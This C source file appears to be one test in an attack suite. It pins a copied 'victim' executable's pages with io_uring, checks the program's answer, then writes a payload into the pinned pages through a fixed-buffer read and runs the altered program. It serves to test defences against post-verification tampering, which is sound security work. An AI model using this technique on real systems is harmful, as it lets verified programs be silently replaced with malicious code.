// SPDX-License-Identifier: BSD-3-Clause
/* Pages of a program that a device, or what is like one, may write to when nobody has it open. */
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <sys/mman.h>
#include <unistd.h>

#include "attack.h"
#include "ring.h"

#define SIZE_MAX_HERE (1 << 16)

/* Has the ring keep the pages of the file. 0 or a negative errno. */
static int pin(const struct ring *ring, const char *path, size_t size, void **ret_pages)
{
	int fd = need(open(path, O_RDWR), path);
	int error;

	*ret_pages = mmap(NULL, size, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
	need(*ret_pages == MAP_FAILED ? -1 : 0, path);
	error = ring_register(ring, *ret_pages, size);
	munmap(*ret_pages, size);
	close(fd);
	return error;
}

/* A pipe with the payload in it is read into the pages. 0 or a negative errno. */
static int write_to(struct ring *ring, void *pages, const char *bytes, size_t size)
{
	struct io_uring_sqe entry = {.opcode = IORING_OP_READ_FIXED, .len = size};
	int ends[2], result;

	need(pipe(ends), "pipe");
	need(write(ends[1], bytes, size), "pipe");
	entry.fd = ends[0];
	entry.addr = (unsigned long)pages;
	result = ring_do(ring, &entry);
	return result < 0 ? result : 0;
}

/* On a tmpfs: what is on a disk cannot be pinned for long. */
static int pinned_program(void)
{
	static char bytes[SIZE_MAX_HERE];
	size_t size = load_file("payload", bytes, sizeof(bytes));
	struct ring ring;
	char path[64];
	void *pages;
	int answer;

	if (ring_init(&ring) < 0)
		return NOT_HERE;
	snprintf(path, sizeof(path), "/tmp/pinned-%d", getpid());
	copy_file("victim", path);
	need(pin(&ring, path, size, &pages), "io_uring");
	answer = answer_of(path);
	if (answer < 0)
		return answer;
	need(answer == INTENDED ? 0 : -1, "victim");
	need(write_to(&ring, pages, bytes, size), "io_uring");
	return RUN(path);
}

const struct attack pin_attacks[] = {
	{"pinned-program", pinned_program},
	{NULL, NULL},
};
